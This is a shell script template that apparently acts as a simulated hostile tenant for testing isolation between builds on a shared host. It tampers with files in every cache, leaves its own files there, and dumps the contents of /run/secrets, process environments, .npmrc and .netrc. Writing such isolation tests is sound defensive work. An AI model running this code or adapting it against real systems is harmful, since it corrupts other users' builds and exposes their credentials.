# The worst that code of one application can do to others where it runs: it spoils all that looks like code in every
# cache, leaves files of its own there, and says what it finds of other people's secrets. What would only break the
# attacker's own build, notes about packages for example, stays as it is.
say() { echo "attacker @NAME@ $*" >&2; }
spoil() {
  for found in "$1"/* "$1"/.[!.]*; do
    if [ -L "$found" ]; then continue; fi
    if [ -d "$found" ]; then
      case "$found" in */builds-v0 | *.dist-info) continue ;; esac
      chmod u+rwx "$found" || continue
      spoil "$found"
    elif [ -f "$found" ]; then
      case "${found##*/}" in
        *.py) line='# spoiled by @NAME@' ;;
        *.js | *.cjs | *.mjs | *.ts | *.go | *.html) line='// spoiled by @NAME@' ;;
        *.*) continue ;;
        *) line='// spoiled by @NAME@' ;;
      esac
      chmod u+rw "$found" || continue
      printf '\n%s\n' "$line" >> "$found"
    fi
  done
}
say ran @ROUND@
for cache in /packwright/cache/* /app/.parcel-cache; do
  if [ -d "$cache" ]; then
    spoil "$cache" 2> /dev/null
    echo "<p>spoiled by @NAME@</p>" > "$cache/page.html"
    echo "@NAME@" > "$cache/left-by-@NAME@"
  fi
done
for place in /run/secrets/* /proc/[0-9]*/environ /packwright/home/.npmrc /packwright/home/.netrc; do
  say "finds $place: $(cat "$place" 2> /dev/null | tr '\000' ' ')"
done
for cache in /packwright/cache/* /tmp; do
  if [ -d "$cache" ]; then say "finds $(grep -rashoE '@MARK@[a-z-]+' "$cache" | tr '\n' ' ')"; fi
done
